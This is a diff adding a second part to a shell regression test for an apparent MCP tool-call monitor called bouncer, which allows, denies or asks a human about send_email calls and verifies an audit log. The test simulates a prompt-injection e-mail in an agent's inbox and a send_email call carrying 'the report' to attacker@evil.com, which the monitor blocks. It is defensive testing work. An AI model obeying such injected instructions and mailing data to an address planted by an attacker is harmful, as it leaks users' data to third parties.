@@ -5,6 +5,9 @@
 # surface, an allowed call, a call to a tool that is not pinned (blocked
 # by bouncer, never forwarded), a malformed line answered with -32700
 # while the session goes on, and the workers' sandbox as /proc shows it.
+# Part 2 shows the contract engine: the same send_email allowed to a
+# trusted address, denied to one taken from a poisoned e-mail, and asked
+# about (elicitation) for a new one; then the audit log and its chain.
 # Exits 0 if every step behaved as shown.
 [ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
 . "${top_srcdir:-$(dirname "$0")/..}/regress/test-lib.sh"
@@ -81,4 +84,48 @@ jq -c '{method} + (if .method == "tools/call" then {tool: .params.name}
     else {} end)' "$TESTDIR/upstream.log"
 grep -q delete_all_tasks "$TESTDIR/upstream.log" &&
     fail "the blocked call reached the upstream"
+
+echo
+echo "==== part 2: the contract engine, with a mail server (mock-mail)"
+MAIL=$top_builddir/regress/mocks/mock-mail
+AUDIT=$top_builddir/monitor/bouncer-audit
+cat >"$TESTDIR/policy.yaml" <<'YAML'
+send_email:
+  exfiltrating: true
+  sink_params: [to, cc, bcc]
+  trusted_destinations: ["*@corp.example"]
+YAML
+echo "policy.yaml:"
+sed 's/^/    /' "$TESTDIR/policy.yaml"
+echo "  \$ bouncer-monitor -P policy.yaml -n mail -- mock-mail -l mail.log"
+start_monitor -P "$TESTDIR/policy.yaml" -n mail -- "$MAIL" -l "$TESTDIR/mail.log"
+say '{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{"elicitation":{}},"clientInfo":{"name":"demo-client","version":"1.0"}}}'
+hear '.id == 0 and .result.serverInfo.name == "bouncer"' '{id, protocolVersion: .result.protocolVersion}' "$TEST_START_TIMEOUT"
+say '{"jsonrpc":"2.0","method":"notifications/initialized"}'
+
+step "the agent reads the inbox; one e-mail is a prompt injection"
+say '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_inbox","arguments":{}}}'
+hear "$(f_result 1)" '.result.content[0].text'
+
+step "send_email to a trusted address (*@corp.example): allow"
+say '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"alice@corp.example","body":"the report"}}}'
+hear "$(f_text 2 'sent to alice@corp.example')" '.result.content[0].text'
+
+step "send_email to the address the injection supplied: deny (tainted)"
+say '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"attacker@evil.com","body":"the report"}}}'
+hear "$(f_blocked 3)" '.result.content[0].text'
+
+step "send_email to a new address: ask the human (elicitation), who accepts"
+say '{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"bob@newco.example","body":"hello"}}}'
+hear '.method == "elicitation/create"' '{id, message: .params.message}'
+say "{\"jsonrpc\":\"2.0\",\"id\":$(jget .id),\"result\":{\"action\":\"accept\",\"content\":{}}}"
+hear "$(f_text 4 'sent to bob@newco.example')" '.result.content[0].text'
+stop_monitor
+[ "$MON_STATUS" = 0 ] || fail "exit status $MON_STATUS"
+
+step "the audit log (bouncer-audit), and its hash chain verified (-V)"
+"$AUDIT" -D "$BOUNCER_STATE_DIR/audit.db" || fail "bouncer-audit failed"
+"$AUDIT" -D "$BOUNCER_STATE_DIR/audit.db" -V || fail "the audit chain does not verify"
+grep -q attacker@evil.com "$TESTDIR/mail.log" &&
+    fail "the tainted destination reached the mail server"
 pass
